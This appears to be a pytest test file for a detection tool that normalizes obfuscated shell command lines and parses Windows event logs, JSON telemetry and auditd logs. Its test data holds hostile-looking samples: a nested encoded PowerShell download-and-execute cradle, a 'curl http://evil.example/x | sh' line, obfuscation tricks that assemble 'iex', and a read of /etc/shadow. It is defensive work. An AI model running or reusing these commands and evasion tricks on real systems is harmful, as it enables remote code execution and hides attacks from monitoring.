"""Command lines: the normalized text against what shells do, and the logs that they come from."""

import base64
import json
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from buckler.dataset import read_dataset
from buckler.errors import InputError
from buckler.normalize import get_normalizer
from buckler.readers.quarantine import Quarantine
from buckler.tasks import get_task
from tests.support.made_evtx import other, security, sysmon, write_evtx

COMMAND = get_normalizer("command-v2")
TASK = get_task("command-line")


def fields(text: str | bytes, max_bytes: int = 4096) -> list[str]:
    """Command, payloads, image, parent, user, marks."""
    return COMMAND.normalize(text, max_bytes).decode("utf-8", "replace").split("\x1f")


def powershell(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("WhoAmI  /ALL", "whoami /all"),
        ("po^wer^shell -nop", "powershell -nop"),
        ('echo "a^b"', "echo a^b"),
        ("a^^b", "a^b"),
        ('sch""tasks /create', "schtasks /create"),
        ("w'h'o'am'i", "whoami"),
        ("Inv`oke-Exp`ression $x", "invoke-expression $x"),
        ("echo `id`", "echo `id`"),
        ("& ('who'+'am'+'i')", "& (whoami)"),
        ("('a' + \"b\")", "(ab)"),
        ("(\"{1}{0}\" -f 'ex','I')", "(iex)"),
        ("('{2}{0}{1}'-f 'b','c','a')", "(abc)"),
        ("[char]0x69+[char]101+[char](120)", "iex"),
        ("chr(105) & chr(101) & chr(120)", "iex"),
        ('printf "\\x77\\x68\\x6f"', "printf who"),
        ("\\u0069\\u0065\\u0078", "iex"),
        ("c:\\tools\\x64\\release\\a.exe", "c:\\tools\\x64\\release\\a.exe"),
        ("$env:comspec[4,15,25]-join''", "iex-join"),
        ("$pshome[21]+$pshome[30]+'x'", "iex"),
        ("$env:windir\\x", "c:\\windows\\x"),
        ("%COMSPEC% /c x", "c:\\windows\\system32\\cmd.exe /c x"),
        ("%comspec:~-7,3% /c x", "cmd /c x"),
        ("%nobody_knows%", "%nobody_knows%"),
        ("100% sure", "100% sure"),
        ('cmd /c "set a=who&&set b=ami&&call %a%%b%"', "cmd /c set a=who&&set b=ami&&call whoami"),
        ("set /a x=1", "set /a x=1"),
        ("powershell –nop", "powershell -nop"),  # noqa: RUF001
        ("pоwershell", "powershell"),  # noqa: RUF001
        ("привет мир", "привет мир"),
        ("who​ami", "whoami"),
        ("whoami & rem nothing to see", "whoami"),
        ("whoami # nothing to see", "whoami"),
        ("echo a#b", "echo a#b"),
        ("echo '# kept'", "echo # kept"),
        ("copy \\\\srv\\c$\\\\a b", "copy \\\\srv\\c$\\a b"),
        ("--id {3F2504E0-4F89-11D3-9A0C-0305E82C3301}", "--id {<guid>}"),
        (
            "ping 192.168.1.4 10.1.2.3 127.0.0.1 8.8.8.8 0.0.0.0",
            "ping <lan> <lan> <loopback> <ip> <any>",
        ),
        ("v1.2.3.4.5 999.1.1.1", "v1.2.3.4.5 999.1.1.1"),
        ("sid S-1-5-21-1-2-3-500", "sid <sid>"),
        ("kill 123456 4444", "kill <number> 4444"),
        ("hash d41d8cd98f00b204e9800998ecf8427e", "hash <hex>"),
        ("run ab12cd34ef56.exe", "run <random>.exe"),
        ("C:\\Users\\anna.b\\x /home/anna/y", "c:\\users\\<user>\\x /home/<user>/y"),
        ("C:\\Users\\Public\\x", "c:\\users\\public\\x"),
        ("", ""),
    ],
)
def test_what_shells_undo_is_undone(text, command):
    assert fields(text)[0] == command


def test_payloads_are_decoded_within_payloads_and_named_in_place():
    inner = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"
    outer = f"powershell -w hidden -enc {powershell(f'powershell -e {powershell(inner)}')}"
    command, payload, *_, marks = fields(outer)
    assert command == "powershell -w hidden -enc <base64>"
    assert payload == (
        "powershell -e <base64> iex (new-object net.webclient).downloadstring(http://<lan>/a.ps1)"
    )
    assert "base64" in marks


@pytest.mark.parametrize(
    ("text", "payload", "mark"),
    [
        ("echo d2hvYW1pIC9hbGwgL3ByaXY= | base64 -d | sh", "whoami /all /priv", "base64"),
        ("echo 77686f616d69202f616c6c | xxd -r -p", "whoami /all", "hex"),
        ("[string]::join('', (119,104,111,97,109,105))", "whoami", "code"),
        ("python -c exec(bytes([0x69, 0x6d, 0x70, 0x6f, 0x72, 0x74]))", "import", "code"),
    ],
)
def test_payloads_of_other_kinds(text, payload, mark):
    found = fields(text)
    assert found[1] == payload
    assert mark in found[5].split()


def test_words_that_only_look_like_base64_stay():
    assert fields("dir /usr/local/lib/python3/packages")[0] == "dir /usr/local/lib/python3/packages"
    assert fields("microsoftwindowsdesktop")[0] == "microsoftwindowsdesktop"


def test_context_says_who_and_whence():
    text = "\x1f".join(
        [
            "whoami",
            '"C:\\Program Files\\Office\\WINWORD.EXE" /n',
            "C:\\W\\WhoAmI.exe",
            "NT AUTHORITY\\SYSTEM",
        ]
    )
    assert fields(text) == [
        "whoami",
        "",
        "whoami.exe",
        "c:\\program files\\office\\winword.exe /n",
        "<system>",
        "",
    ]
    kinds = {
        "root": "<root>",
        "0": "<root>",
        "HOST$": "<system>",
        "CORP\\admin-7": "<admin>",
        "anna": "<user>",
        "NT AUTHORITY\\LOCAL SERVICE": "<service>",
        "": "",
    }
    for user, kind in kinds.items():
        assert fields(f"x\x1f\x1f\x1f{user}")[4] == kind


def test_padding_on_either_side_leaves_the_rest_in_sight():
    padded = "echo " + "lorem " * 1500 + "; curl http://evil.example/x | sh"
    command = fields(padded, 1024)[0]
    assert command.startswith("echo lorem")
    assert command.endswith("curl http://evil.example/x | sh")


words = st.text("abcdefghijklmnoprstuvwxyz", min_size=3, max_size=9)
lines = st.lists(words, min_size=1, max_size=6).map(" ".join)


@settings(max_examples=300)
@given(lines, st.data())
def test_carets_quotes_and_case_change_nothing_but_the_marks(line, data):
    disguised = ""
    for letter in line:
        before = data.draw(st.sampled_from(["", "", "^", '""', "​"])) if letter != " " else ""
        disguised += before + (letter.upper() if data.draw(st.booleans()) else letter)
    assert fields(disguised)[0] == fields(line)[0]


@settings(max_examples=200)
@given(lines.filter(lambda line: len(line) > 12))
def test_encoded_commands_show_what_they_run(line):
    assert fields(f"powershell -enc {powershell(line)}")[1] == fields(line)[0]


_pieces = st.one_of(
    st.text(max_size=30),
    st.sampled_from(
        [
            "%COMSPEC:~",
            "-1,3%",
            "%a%",
            "set a=",
            "&&",
            "$env:",
            "os[1,",
            "]",
            "[char]",
            "0x41",
            "chr(",
            "\\x41",
            "\\u0041",
            '"{0}',
            "{1}\"-f'",
            "'+'",
            "`",
            "^",
            "#",
            "& rem ",
            "\x1f",
            "QUJDREVGR0g=",
            "65,66,67,68,69,70",
            "4142434445464748",
            "\\users\\",
            "1.2.3.4",
            "S-1-5-21-",
            "​",
        ]
    ),
)


@settings(max_examples=500, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_pieces, max_size=30).map("".join), st.sampled_from([1, 2, 7, 64, 300, 4096]))
def test_any_text_has_a_form_that_fits_and_is_the_same_in_a_column(text, max_bytes):
    form = COMMAND.normalize(text, max_bytes)
    assert len(form) <= max_bytes
    data = text.encode("utf-8", "surrogatepass")
    column = COMMAND.normalize_column(pa.array([data, data], pa.large_binary()), max_bytes)
    assert column[0] == column[1] == form == COMMAND.normalize(data, max_bytes)


@settings(max_examples=100)
@given(st.binary(max_size=400))
def test_any_bytes_have_a_form(data):
    assert len(COMMAND.normalize(data, 256)) <= 256


# --- where command lines come from ---------------------------------------------


def read(path: Path):
    quarantine = Quarantine()
    return read_dataset([path], TASK, quarantine=quarantine), quarantine


def texts(events) -> list[list[str]]:
    return [t.decode().split("\x1f") for t in events.raw_texts]


def test_event_logs_of_windows(tmp_path):
    pytest.importorskip("evtx")
    path = write_evtx(
        tmp_path / "a.evtx", [sysmon("cmd /c whoami"), other(), security("whoami /all")]
    )
    events, quarantine = read(path)
    assert texts(events) == [
        [
            "cmd /c whoami",
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\System32\\cmd.exe",
            "NT AUTHORITY\\SYSTEM",
        ],
        [
            "whoami /all",
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\System32\\whoami.exe",
            "anna",
        ],
    ]
    assert events.groups.tolist() == ["HOST-1"] * 2
    assert events.column("ts").tolist() == [1626968661] * 2
    assert quarantine.count == 0
    assert quarantine.passed_over == {"other events": 1}


def test_an_event_log_goes_on_behind_a_cursor(tmp_path):
    pytest.importorskip("evtx")
    from buckler.readers.reader import ColumnSpec, get_reader

    path = write_evtx(tmp_path / "a.evtx", [sysmon(f"run {i}") for i in range(700)])
    spec = ColumnSpec(("CommandLine",))
    whole = [
        t for c in get_reader(path).chunks(path, spec, Quarantine()) for t in c.events.to_pylist()
    ]
    later = [
        t
        for c in get_reader(path).chunks(path, spec, Quarantine(), 300)
        for t in c.events.to_pylist()
    ]
    assert whole == [f"run {i}".encode() for i in range(700)]
    assert later == whole[300:]


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(st.tuples(st.integers(0, 69_631), st.integers(0, 255)), max_size=12),
    st.integers(0, 69_632),
)
def test_damaged_event_logs_are_an_error_or_fewer_events(tmp_path, changes, cut):
    pytest.importorskip("evtx")
    path = tmp_path / "a.evtx"
    if not path.exists():
        write_evtx(path, [sysmon("cmd /c whoami"), security("whoami /all")] * 20)
    data = bytearray(path.read_bytes())
    for at, value in changes:
        data[at] = value
    damaged = tmp_path / "b.evtx"
    damaged.write_bytes(bytes(data[: cut or len(data)]))
    try:
        events, _ = read(damaged)
    except InputError as error:
        assert str(damaged) in str(error)
    else:
        assert len(events) <= 80


def test_json_of_sysmon_ecs_winlogbeat_and_ocsf_mixed(tmp_path):
    path = tmp_path / "a.jsonl"
    rows = [
        {"EventID": 1, "CommandLine": "a b", "ParentImage": "p.exe", "Image": "i.exe", "User": "u"},
        {"EventID": 3, "DestinationIp": "10.0.0.1"},
        {
            "process": {
                "command_line": "c d",
                "parent": {"command_line": "p2"},
                "executable": "i2",
            },
            "user": {"name": "root"},
            "host": {"name": "h2"},
            "@timestamp": "2021-01-02T03:04:05Z",
        },
        {"winlog": {"event_data": {"CommandLine": "e f", "ParentCommandLine": "p3"}}},
        {
            "class_uid": 1007,
            "time": 1700000000123,
            "process": {"cmd_line": "g h", "file": {"path": "i4"}},
            "actor": {"process": {"cmd_line": "p4"}, "user": {"name": "u4"}},
        },
        {"Event": {"EventData": {"CommandLine": "i j", "Image": "i5"}}},
        {"CommandLine": 7},
    ]
    path.write_text("\n".join(map(json.dumps, rows)))
    events, quarantine = read(path)
    assert texts(events) == [
        ["a b", "p.exe", "i.exe", "u"],
        ["c d", "p2", "i2", "root"],
        ["e f", "p3"],
        ["g h", "p4", "i4", "u4"],
        ["i j", "", "i5"],
    ]
    assert events.groups.tolist()[1] == "h2"
    assert events.column("ts").tolist()[1] == 1609556645
    assert events.column("ts").tolist()[3] == 1700000000
    assert quarantine.count == 1
    assert quarantine.passed_over.total() == 1


AUDIT = """type=SYSCALL msg=audit(1364481363.243:7): arch=c000003e syscall=59 uid=0 exe="/bin/cat"
type=EXECVE msg=audit(1364481363.243:7): argc=3 a0="cat" a1="/etc/shadow" a2=612062
type=CWD msg=audit(1364481363.243:7): cwd="/root"
type=PROCTITLE msg=audit(1364481363.243:7): proctitle=636174
node=web1 type=SYSCALL msg=audit(1364481364.243:8): arch=c000003e syscall=59 uid=33 exe="/bin/sh"
node=web1 type=EXECVE msg=audit(1364481364.243:8): argc=2 a0="sh" a1_len=10 a1[0]=6162 a1[1]=6364
type=USER_LOGIN msg=audit(1364481365.243:9): pid=1 uid=0
not a record
"""


def test_the_log_of_the_audit_daemon(tmp_path):
    path = tmp_path / "audit.log"
    path.write_text(AUDIT)
    events, quarantine = read(path)
    assert texts(events) == [
        ["cat /etc/shadow 'a b'", "", "/bin/cat", "0"],
        ["sh abcd", "", "/bin/sh", "33"],
    ]
    assert events.column("ts").tolist() == [1364481363, 1364481364]
    assert events.groups.tolist() == [None, "web1"]
    assert dict(quarantine.reasons) == {"not a record of auditd": 1}


def test_records_of_one_program_are_joined_across_blocks(tmp_path, monkeypatch):
    from buckler.readers import lines
    from buckler.readers.reader import ColumnSpec, get_reader

    monkeypatch.setattr(lines, "BLOCK_BYTES", 300)
    path = tmp_path / "audit.log"
    path.write_text(
        "".join(AUDIT.replace(":7)", f":{i}7)").replace(":8)", f":{i}8)") for i in range(9))
    )
    spec = ColumnSpec(("text",), context=TASK.context)
    chunks = list(get_reader(path).chunks(path, spec, Quarantine()))
    found = [t for c in chunks for t in c.events.to_pylist()]
    assert (
        found
        == [b"cat /etc/shadow 'a b'\x1f\x1f/bin/cat\x1f0", b"sh abcd\x1f\x1f/bin/sh\x1f33"] * 9
    )
    position = 0
    for chunk in chunks[:-1]:  # and a scan goes on where it stopped
        rest = get_reader(path).chunks(path, spec, Quarantine(), chunk.cursor)
        later = [t for c in rest for t in c.events.to_pylist()]
        assert later == found[len(found) - len(later) :]
        position += len(chunk.events)
        assert len(later) == len(found) - position


@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(
        st.sampled_from(
            [*AUDIT.splitlines(), "type=EXECVE msg=audit(1.1:7): a0=", "\x00", "type=EXECVE "]
        )
        | st.text(max_size=60),
        max_size=20,
    )
)
def test_any_lines_pass_the_audit_reader(tmp_path, rows):
    path = tmp_path / "audit.log"
    path.write_text("\n".join(rows), errors="surrogateescape")
    try:
        events, _ = read(path)
    except InputError as error:
        assert str(path) in str(error)
    else:
        assert all(text[0] for text in texts(events))


def test_a_separator_in_a_column_forges_no_field(tmp_path):
    path = tmp_path / "a.jsonl"
    path.write_text(json.dumps({"CommandLine": "a\x1fb", "Image": "c\x1fd"}))
    events, _ = read(path)
    assert texts(events) == [["a b", "", "c d"]]
